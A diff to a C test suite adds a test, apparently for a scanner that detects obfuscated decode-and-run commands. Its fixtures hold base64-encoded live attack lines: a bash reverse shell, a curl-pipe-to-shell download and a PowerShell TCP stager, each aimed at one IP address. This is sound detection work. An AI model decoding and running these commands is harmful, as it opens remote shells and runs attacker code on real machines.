@@ -230,6 +230,46 @@ test_cmd_secrets(void)
             T_FAIL_AT("credential in: %s", clean[i]);
 }
 
+/*
+ * A command behind a decode-and-run idiom is decoded and judged: a reverse
+ * shell or a payload is exploit code, its listener a live target. A benign
+ * decoded command, a decode with nothing run, and an access-log line quoting
+ * the idiom stay clean.
+ */
+static void
+test_decode_run(void)
+{
+    static const char *const found[] = {
+        "```\nbash -c {echo,YmFzaCAtaSA+JiAvZGV2L3RjcC82MS4xNzEuOS4yMC81NTU1IDA+JjE=}|{base64,-d}|"
+        "{bash,-i}\n```\n",
+        "执行 `echo Y3VybCBodHRwOi8vNjEuMTcxLjkuMjAveC5zaHxzaA== | base64 --decode | sh` 即可。\n",
+        "```\npowershell -nop -c \"IEX([Text.Encoding]::Unicode.GetString([Convert]::"
+        "FromBase64String('JABjAD0ATgBlAHcALQBPAGIAagBlAGMAdAAgAFMAeQBzAHQAZQBtAC4ATgBlAHQALgBTAG8A"
+        "YwBrAGUAdABzAC4AVABDAFAAQwBsAGkAZQBuAHQAKAAnADYAMQAuADEANwAxAC4AOQAuADIAMAAnACwANAA0ADMAKQ"
+        "A"
+        "=')))\"\n```\n",
+    };
+    static const char *const clean[] = {
+        "```\necho ZXhwb3J0IExBTkc9ZW5fVVMuVVRGLTg7IGRhdGU= | base64 -d | sh\n```\n",
+        "```\n$b = "
+        "[Convert]::FromBase64String('YmFzaCAtaSA+JiAvZGV2L3RjcC82MS4xNzEuOS4yMC81NTU1IDA+JjE=')\n"
+        "```\n",
+        "```\n192.0.2.7 - - [12/Dec/2021:03:14:07 +0800] \"GET "
+        "/?c={echo,YmFzaCAtaSA+JiAvZGV2L3RjcC82"
+        "MS4xNzEuOS4yMC81NTU1IDA+JjE=}|{base64,-d}|{bash,-i} HTTP/1.1\" 400 0\n```\n",
+    };
+    for (size_t i = 0; i < EMB_ARRAY_LEN(found); i++) {
+        if (count_block(found[i], "exploit_code.decode_run") != 1)
+            T_FAIL_AT("no decode_run in: %s", found[i]);
+        if (count_block(found[i], "live_target") != 1)
+            T_FAIL_AT("no decoded live target in: %s", found[i]);
+    }
+    for (size_t i = 0; i < EMB_ARRAY_LEN(clean); i++)
+        if (count_rule(clean[i], "exploit_code.decode_run", NULL) != 0 ||
+            count_rule(clean[i], "live_target", NULL) != 0)
+            T_FAIL_AT("finding in: %s", clean[i]);
+}
+
 static void
 test_urls(void)
 {
@@ -1166,6 +1206,7 @@ main(void)
     T_RUN(test_product_before_address);
     T_RUN(test_continued_command);
     T_RUN(test_cmd_secrets);
+    T_RUN(test_decode_run);
     T_RUN(test_urls);
     T_RUN(test_dorks);
     T_RUN(test_pass7_shapes);
